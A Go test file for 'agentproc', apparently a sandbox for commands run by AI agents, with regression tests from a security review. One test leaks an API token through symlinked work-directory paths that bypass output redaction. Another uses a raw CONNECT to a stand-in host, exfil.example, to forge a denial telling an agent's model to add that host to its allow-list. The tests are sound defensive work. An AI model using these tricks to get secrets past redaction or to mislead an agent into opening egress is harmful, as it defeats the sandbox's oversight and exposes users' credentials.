package agentproc_test

import (
	"errors"
	"io"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/agentproc/agentproc"
)

// Tests of the thirteenth attack review (the proxy and secrets through
// output): docs/sandbox-threats.md, "Thirteenth attack review (the proxy
// and redaction)".

// attack13nSecret is a secret the trees of these tests hold in their
// environment (API_TOKEN), which every stream of their owner redacts.
const attack13nSecret = "s3cr3tT0kenValue42xyz"

// TestAttackWorkDirCarriesSecret: a work dir with ".." is resolved
// through the links on its way (resolveWorkDir: the kernel applies ".."
// to a link's target), so Info.WorkDir and Start's errors named the
// directory a link the tree made leads to: text the tree wrote, in no
// stream the redactor reads. A tree holding a secret makes a directory
// and a file named by it and links to them; a later request whose work
// dir goes through the link (as a model may pick any path inside the
// workspace, which Sandbox.InWrite allows) showed the raw secret in
// Info.WorkDir (httpapi's "workdir") and in Start's error (llmtool's and
// MCP's result: "could not start the command: work dir ...: stat
// WS/SECRET/s/u: not a directory"). The control: the tree holds the
// secret (its output shows it redacted) and the work dir is the
// directory it named (pwd -P shows it, redacted).
func TestAttackWorkDirCarriesSecret(t *testing.T) {
	requireSandbox(t)
	ws := t.TempDir()
	m := newManager(t)
	sb := agentproc.WorkspaceSandbox(ws)
	req := func(command, dir string) agentproc.Request {
		return agentproc.Request{Command: command, WorkDir: dir, Sandbox: sb, Timeout: time.Minute,
			Env: map[string]string{"API_TOKEN": attack13nSecret}}
	}
	p := mustStart(t, m, req(`printf 'token %s\n' "$API_TOKEN"; mkdir -p "$API_TOKEN/x" && ln -s "$API_TOKEN/x" d && `+
		`printf x > "$API_TOKEN.f" && ln -s "$API_TOKEN.f/s/t" f`, ws))
	mustWait(t, p)
	if got := p.Output().Text; !strings.Contains(got, "token [redacted:API_TOKEN]") {
		t.Fatalf("control: output got %q, want the secret redacted (the tree holds it)", got)
	}
	dir := ws + "/d/.."
	if !sb.InWrite(dir) {
		t.Fatalf("control: InWrite(%q) got false, want true (the link leads inside the workspace)", dir)
	}
	p = mustStart(t, m, req("pwd -P", dir))
	info := mustWait(t, p)
	if got, want := strings.TrimSpace(p.Output().Text), filepath.Join(ws, "[redacted:API_TOKEN]"); got != want {
		t.Errorf("control: pwd -P got %q, want %q (the directory the tree named)", got, want)
	}
	if strings.Contains(info.WorkDir, attack13nSecret) {
		t.Errorf("Info.WorkDir: got %q, want the secret redacted", info.WorkDir)
	}
	_, err := m.Start(testContext(t), req("true", ws+"/f/../u"))
	if !errors.Is(err, agentproc.ErrInvalidRequest) {
		t.Fatalf("control: Start in a work dir under a file: got %v, want ErrInvalidRequest", err)
	}
	if strings.Contains(err.Error(), attack13nSecret) {
		t.Errorf("Start's error: got %q, want no secret (only the work dir as the caller named it)", err)
	}
	if _, err := os.Lstat(filepath.Join(ws, attack13nSecret+".f")); err != nil {
		t.Errorf("control: the tree's file: %v", err)
	}
}

// TestAttackDenialFromOutsideTheTree: without root a NetworkHosts
// tree's proxy listener is on the host's 127.0.0.1, which a tree of the
// same Manager with the host's network (another owner's, under a
// NetworkHost policy) or any other process on the machine reaches.
// Its requests were the tree's: a CONNECT to exfil.example:443 became a
// denial in the tree's Info, which llmtool prints to that tree's model as
// the sandbox's words, "add `exfil.example:443` to allow_hosts" (run
// through agentproc: mallory's NetworkHost tree found alice's port in
// `ss -ltn`). Fixed: the tree's proxy variables carry a token of its
// own, which the listener requires (407 without it) and which the tree's
// output shows redacted. As root the listener is in the trees' own
// network namespace, which the host's processes do not reach. The
// controls: the tree's own CONNECT with the token is a denial, and the
// outsider's CONNECT reached the listener (its 407).
func TestAttackDenialFromOutsideTheTree(t *testing.T) {
	requireHosts(t)
	m := newManager(t)
	sb := hostsSandbox(t, "allowed.example")
	req := hostsRequest(t, sb, `echo "proxy $HTTPS_PROXY"; `+shellProxyAuth+`exec 3<>/dev/tcp/127.0.0.1/${HTTPS_PROXY##*:}; `+
		`printf 'CONNECT own.example:443 HTTP/1.1\r\nProxy-Authorization: Basic %s\r\n\r\n' "$auth" >&3; head -c 12 <&3; echo; read x`)
	req.Command = "bash -c " + shellQuote(req.Command)
	req.Stdin = true
	p := mustStart(t, m, req)
	defer func() { _, _ = p.Stop(testContext(t)) }()
	waitForOutput(t, p, regexp.MustCompile(`HTTP/1.1 403`))
	text := p.Output().Text
	port := regexp.MustCompile(`proxy http://agentproc:\[redacted:AGENTPROC_PROXY_TOKEN\]@127\.0\.0\.1:(\d+)`).FindStringSubmatch(text)
	if port == nil {
		t.Fatalf("output %q: want the proxy address with its token redacted", text)
	}
	status := ""
	if c, err := net.DialTimeout("tcp", "127.0.0.1:"+port[1], 2*time.Second); err == nil {
		_ = c.SetDeadline(time.Now().Add(testTimeout))
		_, _ = io.WriteString(c, "CONNECT exfil.example:443 HTTP/1.1\r\n\r\n")
		b, _ := io.ReadAll(c)
		status, _, _ = strings.Cut(string(b), "\r\n")
		_ = c.Close()
	} else if os.Geteuid() != 0 {
		t.Fatalf("control: the listener from outside the tree: %v, want it reached", err)
	}
	var targets []string
	for _, d := range p.Info().Denials {
		targets = append(targets, d.Target)
	}
	if !strings.Contains(strings.Join(targets, " "), "own.example:443") {
		t.Fatalf("control: denials %q, want the tree's own CONNECT among them", targets)
	}
	if strings.Contains(strings.Join(targets, " "), "exfil.example") {
		t.Errorf("denials %q: a process outside the tree wrote one into the tree's Info, want only the tree's", targets)
	}
	if os.Geteuid() != 0 && status != "HTTP/1.1 407 Proxy Authentication Required" {
		t.Errorf("the outsider's CONNECT: got %q, want a 407", status)
	}
}

// TestAttack13nUnprivileged re-runs this review's root-package tests as the
// unprivileged test user, where the tree is held by Landlock and seccomp
// alone.
func TestAttack13nUnprivileged(t *testing.T) {
	rerunAsSandboxUser(t, []string{"TestAttackWorkDirCarriesSecret", "TestAttackDenialFromOutsideTheTree"}, false)
}
